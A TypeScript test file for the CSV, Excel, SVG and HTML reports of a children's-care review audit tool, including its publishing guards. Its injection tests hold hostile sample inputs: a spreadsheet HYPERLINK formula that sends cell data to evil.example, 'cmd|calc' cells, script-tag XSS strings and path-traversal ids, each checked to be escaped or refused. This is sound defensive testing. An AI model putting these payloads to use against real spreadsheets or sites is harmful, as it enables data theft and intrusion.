/** The renderers over one findings document: CSV, XLSX, SVG charts and the HTML report, plus the publisher's guards. */
import { parse } from 'csv-parse/sync';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { FINDINGS_SCHEMA_VERSION, parseFindings, type FindingsDocument } from '#engine/findings-model';
import type { ObjectStore } from '#store/object-store';
import { ACTION_PLAN_CSV_HEADER, FINDINGS_CSV_HEADER, actionPlanCsv, findingsCsv, recordsCsv } from '#reports/csv';
import { reportHtml } from '#reports/html';
import { InvalidFindingsError, auditPrefix, publishFindings, readManifest } from '#reports/publish';
import { changeChart, complianceChart, escapeXml, serviceChart } from '#reports/svg-charts';
import { compressorBacklog, findingsXlsx, findingsXlsxStream } from '#reports/xlsx';
import { findingsSample } from '../fixtures/findings-sample.ts';

const BOM = '\uFEFF';

/** The CSV's rows as strings, BOM stripped. */
function rows(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

/** A copy of the fixture to alter in one test without touching the others. */
const sample = (): FindingsDocument => structuredClone(findingsSample);

/** Checks that every opened element is closed in order: enough to catch a broken template. */
function expectBalancedTags(markup: string): void {
  const VOID = new Set(['meta', 'br', 'img', 'input', 'link', 'hr', 'col']);
  const stack: string[] = [];
  for (const match of markup.matchAll(/<(\/?)([a-zA-Z][a-zA-Z0-9]*)\b[^>]*?(\/?)>/g)) {
    const [, closing, rawName, selfClosing] = match;
    const name = rawName!.toLowerCase();
    if (selfClosing || VOID.has(name)) continue;
    if (closing) expect(stack.pop(), `</${name}> closes the open element`).toBe(name);
    else stack.push(name);
  }
  expect(stack).toEqual([]);
}

describe('findings.csv', () => {
  const csv = findingsCsv(findingsSample);

  it('starts with a UTF-8 BOM and ends records with CRLF, for Excel', () => {
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.split('\r\n')[0]).toBe(`${BOM}${FINDINGS_CSV_HEADER.join(',')}`);
  });

  it('has the exact header row and one row per criterion', () => {
    const table = rows(csv);
    expect(table[0]).toEqual([
      'Criterion id',
      'Title',
      'Kind',
      'N',
      'Met',
      'Not met',
      'Not applicable',
      'Cannot tell',
      'Compliance %',
      'CI lower %',
      'CI upper %',
      'Threshold %',
      'Below threshold',
      'Change since last audit (% points)',
    ]);
    expect(table).toHaveLength(1 + 3);
  });

  it('writes the permanence criterion with percentages to one decimal place', () => {
    expect(rows(csv)[1]).toEqual([
      'perm-plan-by-2nd-review',
      'Permanence plan recorded by the second review',
      'automatic',
      '12',
      '8',
      '2',
      '1',
      '1',
      '80',
      '49',
      '94.3',
      '90',
      'yes',
      '20',
    ]);
  });

  it('keeps a fall in compliance a plain negative number, and leaves change empty for a criterion without one', () => {
    const [, , timescale, voice] = rows(csv);
    expect(timescale?.[13]).toBe('-8.3');
    expect(voice?.slice(2, 4)).toEqual(['manual', '12']);
    expect(voice?.[13]).toBe('');
  });
});

describe('records.csv', () => {
  const table = rows(recordsCsv(findingsSample));

  it('has the fixed columns, one column per criterion and one row per record', () => {
    expect(table[0]).toEqual([
      'Record id',
      'Children',
      'Date',
      'Service',
      'Team',
      'IRO',
      'perm-plan-by-2nd-review',
      'second-review-in-timescale',
      'voice-of-child',
      'Overall',
      'Comment',
    ]);
    expect(table).toHaveLength(1 + 12);
  });

  it('writes a record without a recorded service as empty cells, its outcomes in words and the manual grade', () => {
    expect(table[10]).toEqual([
      'P-1e2f3a4b5c:2017-12-19',
      'P-1e2f3a4b5c',
      '19/12/2017',
      '',
      '',
      'IRO01',
      'cannot tell',
      'met',
      'Requires improvement',
      'Requires improvement',
      'Allocated worker not recorded at the date of the review.',
    ]);
  });

  it('joins the children of a record with ";"', () => {
    const doc = sample();
    doc.records[0]!.children = ['P-aaaaaaaaaa', 'P-bbbbbbbbbb'];
    expect(rows(recordsCsv(doc))[1]?.[1]).toBe('P-aaaaaaaaaa;P-bbbbbbbbbb');
  });
});

describe('action-plan.csv', () => {
  const table = rows(actionPlanCsv(findingsSample));

  it('has the seeds’ columns, then the success measure and linked findings, one row per action', () => {
    expect(table[0]).toEqual(ACTION_PLAN_CSV_HEADER);
    expect(table[0]).toEqual([
      'Action/Task',
      'By whom',
      'By when',
      'Expected outcome',
      'Success measure',
      'Linked findings',
    ]);
    expect(table).toHaveLength(1 + 3);
  });

  it('writes the owner as "role, team" and the due date as dd/mm/YYYY', () => {
    expect(table[3]).toEqual([
      'Book second reviews at two and a half months, with a reserve date inside the 3-month timescale',
      'Business support manager, IRO Service',
      '30/04/2018',
      'No second review held outside the 3-month timescale',
      'All second reviews in timescale in the next quarter',
      'second-review-in-timescale;perm-plan-by-2nd-review',
    ]);
  });
});

describe('CSV formula-injection guard', () => {
  const doc = sample();
  doc.records[0]!.comment = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
  doc.records[1]!.team = '+44 20 7946 0000';
  doc.records[2]!.service = '@SUM(A1:A9)';
  doc.records[3]!.comment = '\tcmd|calc';
  doc.records[4]!.comment = '\r=1+1';
  doc.actionPlan[0]!.action = '-2+3';
  doc.actionPlan[1]!.owner.team = '=cmd';
  doc.criteria[0]!.title = 'Zoë’s review – “plan” – Łódź';

  it('prefixes an apostrophe to every text cell that Excel would run as a formula', () => {
    const records = rows(recordsCsv(doc));
    expect(records[1]?.[10]).toBe('\'=HYPERLINK("http://evil.example/?d="&A1,"Click")');
    expect(records[2]?.[4]).toBe("'+44 20 7946 0000");
    expect(records[3]?.[3]).toBe("'@SUM(A1:A9)");
    expect(records[4]?.[10]).toBe("'\tcmd|calc");
    expect(records[5]?.[10]).toBe("'\r=1+1");
    const actions = rows(actionPlanCsv(doc));
    expect(actions[1]?.[0]).toBe("'-2+3");
    expect(actions[2]?.[1]).toBe('IRO manager, =cmd'); // not at the start of the cell: harmless
  });

  it('leaves ordinary text, dates and non-ASCII characters as they are', () => {
    const records = rows(recordsCsv(doc));
    expect(records[6]?.[10]).toBe('');
    expect(records[7]?.slice(0, 3)).toEqual(['P-7f6e5d4c3b:2017-11-07', 'P-7f6e5d4c3b', '07/11/2017']);
    expect(rows(findingsCsv(doc))[1]?.[1]).toBe('Zoë’s review – “plan” – Łódź');
  });
});

describe('findings.xlsx', () => {
  const load = async (doc: FindingsDocument) => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await findingsXlsx(doc)) as unknown as ExcelJS.Buffer);
    return workbook;
  };

  it('has the summary, criteria, breakdown, table, alert, record and action plan sheets in order', async () => {
    const workbook = await load(findingsSample);
    expect(workbook.worksheets.map((w) => w.name)).toEqual([
      'Summary',
      'Criteria',
      'By service',
      'By team',
      'By IRO',
      'Participation',
      'Timeliness',
      'Reviews due',
      'Sibling groups',
      'Health',
      'Alerts',
      'Records',
      'Action plan',
    ]);
  });

  it('writes the reviews due by month with the quarters, the year to date, short breaks apart and the reasons for lateness', async () => {
    const sheet = (await load(findingsSample)).getWorksheet('Reviews due')!;
    const rows = sheet
      .getSheetValues()
      .filter(Boolean)
      .map((r) => (r as unknown[]).slice(1));
    expect(rows).toContainEqual(['Children looked after (reg 33)']);
    expect(rows).toContainEqual(['August 2017', 25, 23, 1, 1, 0.92]);
    expect(rows).toContainEqual(['Q3 2017-18 (October to December 2017)', 67, 64, 2, 1, 64 / 67]);
    expect(rows).toContainEqual(['Year to date', 144, 138, 4, 2, 138 / 144]);
    expect(rows).toContainEqual(['Children on a series of short breaks only (reg 48)']);
    expect(rows).toContainEqual(['October 2017', 2, 1, 0, 1, 0.5]);
    expect(rows).toContainEqual(['Care plan not ready', 3]);
  });

  it('leaves out the sheet of a table the findings do not have', async () => {
    const doc = sample();
    doc.tables = { participation: doc.tables.participation! };
    const names = (await load(doc)).worksheets.map((w) => w.name);
    expect(names).toContain('Participation');
    expect(names).not.toContain('Timeliness');
    expect(names).not.toContain('Reviews due');
    expect(names).not.toContain('Health');
  });

  it('writes a criterion row with counts as numbers and compliance as a number formatted as a percentage', async () => {
    const sheet = (await load(findingsSample)).getWorksheet('Criteria')!;
    const row = sheet.getRow(2);
    expect(row.getCell(1).value).toBe('perm-plan-by-2nd-review');
    expect(row.getCell(4).value).toBe(12);
    expect(row.getCell(5).value).toBe(8);
    const compliance = row.getCell(9);
    expect(compliance.value).toBe(0.8);
    expect(typeof compliance.value).toBe('number');
    expect(compliance.numFmt).toBe('0.0%');
    expect(row.getCell(15).value).toBe(0.2);
  });

  it('makes the header row bold and frozen on every sheet', async () => {
    for (const sheet of (await load(findingsSample)).worksheets) {
      expect(sheet.getRow(1).font?.bold, sheet.name).toBe(true);
      expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1 });
    }
  });

  it('writes due dates as real dates in dd/mm/yyyy and takes the workbook dates from the audit’s close', async () => {
    const workbook = await load(findingsSample);
    const due = workbook.getWorksheet('Action plan')!.getRow(2).getCell(3);
    expect(due.value).toEqual(new Date(Date.UTC(2018, 4, 15)));
    expect(due.numFmt).toBe('dd/mm/yyyy');
    expect(workbook.created.toISOString()).toBe('2018-03-16T15:30:00.000Z');
    expect(workbook.modified.toISOString()).toBe('2018-03-16T15:30:00.000Z');
  });

  it('writes the participation table with a total row and shares of it', async () => {
    const sheet = (await load(findingsSample)).getWorksheet('Participation')!;
    expect(sheet.getRow(3).values).toEqual([undefined, 'PN1', 'Attends and speaks for self', 88, 88 / 142]);
    expect(sheet.getRow(11).getCell(3).value).toBe(142);
    // Under the table, both headline percentages with their own denominators.
    expect(sheet.getRow(13).values).toEqual([
      undefined,
      'PN0–PN6',
      expect.stringMatching(/counted as participating.*: 135 of 140$/),
      135,
      135 / 140,
    ]);
    expect(sheet.getRow(14).values).toEqual([
      undefined,
      'PN1–PN6',
      expect.stringMatching(/aged 4 and over.*: 114 of 119$/),
      114,
      114 / 119,
    ]);
  });

  it('stops taking records while nobody reads the workbook, however many there are, then writes them all', async () => {
    const total = 60_000;
    let pulled = 0;
    async function* recordRows() {
      for (let i = 0; i < total; i += 1) {
        pulled += 1;
        yield [
          `C-${i}`,
          'Permanence',
          '2025-06-01',
          'Permanence South',
          'IRO01',
          'Met',
          'Not met',
          'Met',
          'Cannot tell',
          'Good',
          'A comment of a moderate length on this record',
        ];
      }
    }
    async function* noAlerts() {}
    const stream = findingsXlsxStream({ document: findingsSample, recordRows, alerts: noAlerts })[
      Symbol.asyncIterator
    ]();
    let bytes = ((await stream.next()).value as Buffer).length;
    // The reader stops: the writer must come to a stop too, with the XML it holds bounded, not run on through every record.
    let before = -1;
    for (let waited = 0; pulled !== before && waited < 10_000; waited += 200) {
      before = pulled;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    expect(pulled).toBeLessThan(total / 2);
    for (let next = await stream.next(); !next.done; next = await stream.next()) bytes += (next.value as Buffer).length;
    expect(pulled).toBe(total);
    expect(bytes).toBeGreaterThan(100_000);
  });

  it('sees the XML a sheet has handed the compressor and not yet compressed (the exceljs and archiver internals it reads are there)', async () => {
    const output = new PassThrough();
    output.resume();
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({
      stream: output,
      useStyles: true,
      useSharedStrings: false,
    });
    const sheet = workbook.addWorksheet('Records');
    const rows = (from: number, count: number) => {
      for (let i = from; i < from + count; i += 1)
        sheet.addRow([`C-${i}`, 'A comment of a moderate length on this record', i]).commit();
    };
    // The first rows, and time for the zip to reach the sheet's entry and pipe it on to its compressor.
    rows(0, 2_000);
    for (let i = 0; i < 20; i += 1) await new Promise((resolve) => setTimeout(resolve, 5));
    // Rows written without a pause: the compressor cannot run meanwhile, so the XML waits for it.
    rows(2_000, 20_000);
    expect(compressorBacklog(sheet)).toBeGreaterThan(1024 * 1024);
    sheet.commit();
    await workbook.commit();
  });
});

describe('SVG charts', () => {
  it('draws the compliance chart as an accessible image with a title, a description and written values', () => {
    const svg = complianceChart(findingsSample.criteria);
    expect(svg.startsWith('<svg')).toBe(true);
    expect(svg.endsWith('</svg>')).toBe(true);
    expect(svg).toContain('role="img"');
    expect(svg).toMatch(/<title id="chart-compliance-title">[^<]+<\/title><desc id="chart-compliance-desc">/);
    expect(svg).toContain('aria-labelledby="chart-compliance-title chart-compliance-desc"');
    expect(svg).toContain('>80%<');
    expect(svg).toContain('BELOW THRESHOLD'); // in words, not only in colour
    expect(svg).toContain('95% interval 49%–94.3%');
    expectBalancedTags(svg);
  });

  it('escapes criterion titles and service names', () => {
    const criteria = structuredClone(findingsSample.criteria);
    criteria[0]!.title = 'Plans <b>& "drift"</b>';
    const svg = complianceChart(criteria);
    expect(svg).not.toContain('<b>');
    expect(svg).toContain('Plans &lt;b&gt;&amp; &quot;drift&quot;&lt;/b&gt;');
    const rows = [{ key: '<script>alert(1)</script>', criterionId: 'c', met: 1, notMet: 1, compliance: 0.5 }];
    const service = serviceChart(rows, 'c');
    expect(service).not.toContain('<script>');
    expect(service).toContain('&lt;script&gt;');
    expectBalancedTags(service);
  });

  it('draws one criterion by service with met-of-judged counts, and says when none were judged', () => {
    const svg = serviceChart(findingsSample.breakdowns.service, 'second-review-in-timescale', { threshold: 0.8 });
    expect(svg.startsWith('<svg')).toBe(true);
    expect(svg).toContain('<title id="chart-service-second-review-in-timescale-title">');
    expect(svg).toContain('CiN/CP North: 50% (2 of 4 met).');
    expect(svg).toContain('threshold 80%');
    expect(serviceChart(findingsSample.breakdowns.service, 'perm-plan-by-2nd-review')).toContain('none judged');
    expectBalancedTags(svg);
  });

  it('draws previous against current compliance only for criteria with change data, and nothing without any', () => {
    const svg = changeChart(findingsSample.criteria);
    expect(svg).toContain('before 60%');
    expect(svg).toContain('now 80%');
    expect(svg).toContain('−8.3 points');
    expect(svg).not.toContain('wishes and feelings');
    expectBalancedTags(svg);
    expect(changeChart(findingsSample.criteria.map(({ change: _change, ...c }) => c))).toBe('');
  });

  it('escapes the five XML specials', () => {
    expect(escapeXml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });
});

describe('report.html', () => {
  const html = reportHtml(findingsSample);

  it('is one English (UK) page with a viewport, its own styles and print rules', () => {
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).toContain('<html lang="en-GB">');
    expect(html).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
    expect(html).toContain('@media print');
    expect(html).toContain('break-before:page');
    expectBalancedTags(html);
  });

  it('fetches nothing: no scripts, stylesheets, fonts or images from anywhere', () => {
    expect(html).not.toMatch(/\b(?:src|href)\s*=\s*["']?\s*(?:https?:)?\/\//i);
    expect(html).not.toMatch(/\bsrc\s*=/i);
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(/i);
  });

  it('heads the page with the audit, template and period', () => {
    expect(html).toContain('<h1>Permanence planning at the second review, August 2017 – January 2018</h1>');
    expect(html).toContain('<dt>Template</dt><dd>Permanence plan by the second review (version 2)</dd>');
    expect(html).toContain('<dt>Audit period</dt><dd>1 August 2017 to 31 January 2018</dd>');
    expect(html).toContain('±24.6%');
  });

  it('shows the criteria with their compliance, interval and shortfall in words', () => {
    expect(html).toContain(
      '<tr><th scope="row">Permanence plan recorded by the second review</th><td class="num">12</td><td class="num">8</td><td class="num">2</td><td class="num">1</td><td class="num">1</td><td class="num">80%</td><td class="num">49–94.3%</td><td class="num">90%</td><td><span class="below">Below threshold</span></td><td class="num">+20 points</td></tr>',
    );
    expect(html).toContain('<th scope="row">Requires improvement</th><td class="num">3</td><td class="num">25%</td>');
  });

  it('reproduces the participation table PN0–PN7 with counts, % of total and the total', () => {
    expect(html).toContain(
      '<th scope="col">Code</th><th scope="col">Participation</th><th scope="col" class="num">Reviews</th><th scope="col" class="num">% of total</th>',
    );
    expect(html).toContain(
      '<tr><th scope="row">PN0</th><td>Child under 4 at the date of the review</td><td class="num">21</td><td class="num">14.8%</td></tr>',
    );
    expect(html).toContain(
      '<tr><th scope="row">PN1</th><td>Attends and speaks for self</td><td class="num">88</td><td class="num">62%</td></tr>',
    );
    expect(html).toContain(
      '<tr><th scope="row">PN7</th><td>Does not attend; no views conveyed</td><td class="num">5</td><td class="num">3.5%</td></tr>',
    );
    expect(html).toContain(
      '<tr><th scope="row">Total</th><td></td><td class="num">142</td><td class="num">100%</td></tr>',
    );
  });

  it('states both headline participation percentages, naming which keeps PN0 in the denominator', () => {
    // 21 + 88 + 4 + 2 + 1 + 6 + 13 = 135 of 140 coded; without PN0, 114 of 119.
    expect(html).toContain(
      '<tr><th scope="row">All reviews, children under 4 (PN0) counted as participating: PN0–PN6 of PN0–PN7 (as C63)</th><td class="num">135</td><td class="num">140</td><td class="num">96.4%</td></tr>',
    );
    expect(html).toContain(
      '<tr><th scope="row">Reviews of children aged 4 and over: PN1–PN6 of PN1–PN7 (under-4s, PN0, left out)</th><td class="num">114</td><td class="num">119</td><td class="num">95.8%</td></tr>',
    );
  });

  it('shows every review due, held or not, by month due with the quarters and the year to date, short breaks apart', () => {
    expect(html).toContain('<h3>Every review due, held or not</h3>');
    expect(html).toContain(
      '<p>144 reviews of children looked after fell due between 1 August 2017 and 31 January 2018: 138 held in timescale (95.8%), 4 held late and 2 not held by 31 January 2018 (overdue).</p>',
    );
    expect(html).toContain(
      '<tr><th scope="row">December 2017</th><td class="num">20</td><td class="num">18</td><td class="num">1</td><td class="num">1</td><td class="num">90%</td></tr>',
    );
    // August and September fall in the financial year's second quarter, October to December in the third, January in the fourth.
    expect(html).toContain(
      '<tr class="subtotal"><th scope="row">Q2 2017-18 (August to September 2017)</th><td class="num">52</td><td class="num">49</td><td class="num">2</td><td class="num">1</td><td class="num">94.2%</td></tr>',
    );
    expect(html).toContain(
      '<tfoot><tr><th scope="row">Year to date</th><td class="num">144</td><td class="num">138</td><td class="num">4</td><td class="num">2</td><td class="num">95.8%</td></tr></tfoot>',
    );
    expect(html).toContain('Reviews of children on a series of short breaks only (reg 48), by the month they fell due');
    expect(html).toContain(
      'Of the 96 children looked after on 31 January 2018 for 4 weeks or more, 90 (93.8%) had every review due in the period held in timescale (the child-level measure, NI 66).',
    );
    expect(html).toContain('<tr><th scope="row">No reason recorded</th><td class="num">3</td></tr>');
    expect(html).toContain('4 meetings were stood down while a review due in the period was awaited');
  });

  it('reproduces the monthly timeliness table with held, held in timescale and %', () => {
    expect(html).toContain(
      '<tr><th scope="row">August 2017</th><td class="num">24</td><td class="num">23</td><td class="num">95.8%</td></tr>',
    );
    expect(html).toContain(
      '<tr><th scope="row">Total</th><td class="num">142</td><td class="num">138</td><td class="num">97.2%</td></tr>',
    );
  });

  it('lists each sibling group with its summary sentence', () => {
    expect(html).toContain(
      '<tr><th scope="row">F-0012</th><td>2 siblings (1 care leaver) – 2 SWs and 2 TMs (+ 1 PA) – 1 IRO</td><td>Yes</td></tr>',
    );
    expect(html).toContain(
      '<td>2 siblings – 2 SWs and 1 TM – 2 IROs</td><td>No – justified by a conflict of interest</td>',
    );
  });

  it('shows the health table as shares of the OC2 cohort (and of the under-5s)', () => {
    expect(html).toContain(
      '<th scope="row">Annual health assessment up to date</th><td class="num">58</td><td class="num">64 looked after 12+ months</td><td class="num">90.6%</td>',
    );
    expect(html).toContain(
      '<th scope="row">Development assessment up to date (under 5s)</th><td class="num">8</td><td class="num">9 under 5</td><td class="num">88.9%</td>',
    );
  });

  it('gives the practice alerts by theme in the annual reports’ words', () => {
    expect(html).toContain(
      '<h3>Permanence planning</h3><ul class="alerts"><li>No permanence plan by 2nd review: 2 (CiN/CP North 1, CiN/CP South 1)</li></ul>',
    );
    expect(html).toContain(
      '<h3>Review timeliness</h3><ul class="alerts"><li>Second review not held within 3 months: 2 (CiN/CP North 2)</li></ul>',
    );
  });

  it('counts the children newly not met, resolved and persisting per criterion', () => {
    expect(html).toContain(
      '<tr><th scope="row">Permanence plan recorded by the second review</th><td class="num">1</td><td class="num">3</td><td class="num">1</td></tr>',
    );
  });

  it('lays out the action plan as Action/Task, By whom, By when, Expected outcome', () => {
    expect(html).toContain(
      '<th scope="col">Action/Task</th><th scope="col">By whom</th><th scope="col">By when</th><th scope="col">Expected outcome</th>',
    );
    expect(html).toContain(
      '<tr><td>IROs see or speak to the child before every review and record the child’s views in their own words</td><td>IRO manager, IRO Service</td><td style="white-space:nowrap">14 June 2018</td><td>Review records show the child’s wishes and feelings shaping the plan</td>',
    );
  });

  it('escapes a <script> in a team, a service and an alert rather than running it', () => {
    const doc = sample();
    const evil = '<script>alert("x")</script>';
    doc.breakdowns.service[0]!.key = evil;
    doc.alerts[0]!.team = evil;
    doc.alertSummary[0]!.summary = `No permanence plan by 2nd review: 2 (${evil} 2)`;
    doc.actionPlan[0]!.owner.team = evil;
    doc.audit.title = `Audit ${evil}`;
    const page = reportHtml(doc);
    expect(page).not.toMatch(/<script/i);
    expect(page).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expectBalancedTags(page);
  });

  it('says so when there are no alerts and leaves out the tables the findings do not have', () => {
    const doc = sample();
    doc.alerts = [];
    doc.alertSummary = [];
    doc.tables = {};
    delete doc.comparison;
    const page = reportHtml(doc);
    expect(page).toContain('No practice alerts were raised.');
    expect(page).not.toContain('Participation at reviews');
    expect(page).not.toContain('Children not meeting each criterion');
    expectBalancedTags(page);
  });
});

describe('publishing guards', () => {
  /** An in-memory port that records puts: enough to see what a refused publication wrote. */
  class MemoryStore implements ObjectStore {
    readonly objects = new Map<string, Uint8Array>();
    async ping(): Promise<void> {}
    async put(key: string, body: Uint8Array | string): Promise<{ sha256: string; size: number }> {
      const bytes = typeof body === 'string' ? new TextEncoder().encode(body) : body;
      this.objects.set(key, bytes);
      return { sha256: '0'.repeat(64), size: bytes.byteLength };
    }
    async get(key: string): Promise<Uint8Array | null> {
      return this.objects.get(key) ?? null;
    }
  }

  it('builds the prefix findings/<authority>/<audit>/', () => {
    expect(auditPrefix('northshire', 'perm-2018-02')).toBe('findings/northshire/perm-2018-02/');
  });

  it.each([['a/b'], ['..'], ['x..y'], [''], ['.hidden'], ['a b'], ['a\\b']])(
    'refuses the id %j, which could leave its prefix',
    (id) => {
      expect(() => auditPrefix('northshire', id)).toThrow(/audit id/);
      expect(() => auditPrefix(id, 'perm-2018-02')).toThrow(/authority id/);
    },
  );

  it('still reads a findings.json of schema version 2, as version 3 without the additions, and refuses a version it does not know', () => {
    const { reviewsDue: _, participationMeasures: __, ...tables } = findingsSample.tables;
    const v2 = { ...findingsSample, schemaVersion: 2, tables };
    const read = parseFindings(JSON.parse(JSON.stringify(v2)));
    expect(read.success && read.data.schemaVersion).toBe(3);
    expect(read.success && read.data.tables.timeliness).toEqual(findingsSample.tables.timeliness);
    expect(read.success && reportHtml(read.data)).toContain('Reviews held and held in timescale, by month');
    expect(parseFindings({ ...v2, schemaVersion: 4 }).success).toBe(false);
  });

  it('refuses an invalid findings document before writing anything', async () => {
    const store = new MemoryStore();
    const doc = sample() as unknown as { criteria: { n: unknown }[]; schemaVersion: unknown };
    doc.criteria[0]!.n = 'twelve';
    doc.schemaVersion = FINDINGS_SCHEMA_VERSION + 1; // a version this code does not know
    const attempt = publishFindings(store, doc as unknown as FindingsDocument);
    await expect(attempt).rejects.toBeInstanceOf(InvalidFindingsError);
    await expect(attempt).rejects.toThrow(/criteria\.0\.n.*schemaVersion|schemaVersion.*criteria\.0\.n/);
    expect(store.objects.size).toBe(0);
  });

  it('refuses an audit id that would escape the prefix before writing anything', async () => {
    const store = new MemoryStore();
    const doc = sample();
    doc.audit.id = '../other-authority';
    await expect(publishFindings(store, doc)).rejects.toThrow(/audit id/);
    expect(store.objects.size).toBe(0);
  });

  it('reads back null for an audit never published', async () => {
    await expect(readManifest(new MemoryStore(), 'northshire', 'perm-2018-02')).resolves.toBeNull();
  });

  it('shows the moderation agreement of a moderated audit, and nothing of it otherwise', () => {
    expect(reportHtml(sample())).not.toContain('id="moderation"');
    const doc = sample();
    doc.moderation = {
      moderatedRecords: 5,
      weights: 'quadratic',
      criteria: [
        {
          criterionId: 'voice',
          title: 'Voice of the child',
          pairs: 5,
          exactAgreement: 0.8,
          weightedKappa: 0.625,
          agreed: 1,
        },
        { criterionId: 'plan', title: 'Plan quality', pairs: 4, exactAgreement: 1, weightedKappa: null, agreed: 0 },
      ],
    };
    const page = reportHtml(doc);
    expect(page).toContain(
      '<section id="moderation"><h2>Moderation</h2><p>5 graded records were graded again, blind, by a second IRO',
    );
    expect(page).toMatch(
      /<td>Voice of the child<\/td><td class="num">5<\/td><td class="num">80(\.0)?%<\/td><td class="num">0\.63<\/td><td class="num">1<\/td>/,
    );
    expect(page).toContain('undefined (one grade throughout)');
    expectBalancedTags(page);
  });
});
